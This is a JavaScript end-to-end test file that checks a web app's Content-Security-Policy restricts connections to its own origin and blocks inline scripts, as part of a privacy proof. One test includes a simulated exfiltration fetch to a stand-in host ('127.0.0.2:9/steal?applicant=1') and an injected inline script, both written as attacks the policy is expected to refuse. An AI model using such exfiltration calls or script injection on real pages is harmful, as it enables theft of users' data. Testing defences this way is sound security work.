// The page's Content-Security-Policy is in force: connections only to its own origin, no inline
// script but Trunk's hashed loader. (Part of issue 6's privacy proof; the other e2e files check
// that no request leaves the origin while every panel is used.)
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { openApp } from './harness.mjs';

let server;
let context;
let page;
const requests = [];

before(async () => {
  ({ server, context, page } = await openApp(requests));
});

after(async () => {
  await context?.close();
  await server?.close();
});

test('the policy is in the page and names only its own origin', async () => {
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /connect-src 'self'(;|$)/);
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'(;|$)/);
  assert.doesNotMatch(policy, /unsafe-inline'?;?\s*(script|connect)/);
  assert.doesNotMatch(policy, /https?:/, 'no other origin is named');
});

test('a fetch to another origin and an injected inline script are refused', async () => {
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    let fetched = 'sent';
    try {
      // Another origin on this machine: refused by the policy before any connection is made.
      await fetch('http://127.0.0.2:9/steal?applicant=1');
    } catch {
      fetched = 'refused';
    }
    window.injected = false;
    const script = document.createElement('script');
    script.textContent = 'window.injected = true;';
    document.body.append(script);
    await new Promise((r) => setTimeout(r, 100));
    return { fetched, injected: window.injected, violations };
  });
  assert.equal(outcome.fetched, 'refused');
  assert.equal(outcome.injected, false, 'inline script ran');
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome.violations));
  assert.ok(outcome.violations.some((d) => d.startsWith('script-src')), JSON.stringify(outcome.violations));
  assert.ok(!requests.some((u) => u.includes('127.0.0.2')), 'the refused request never left');
});
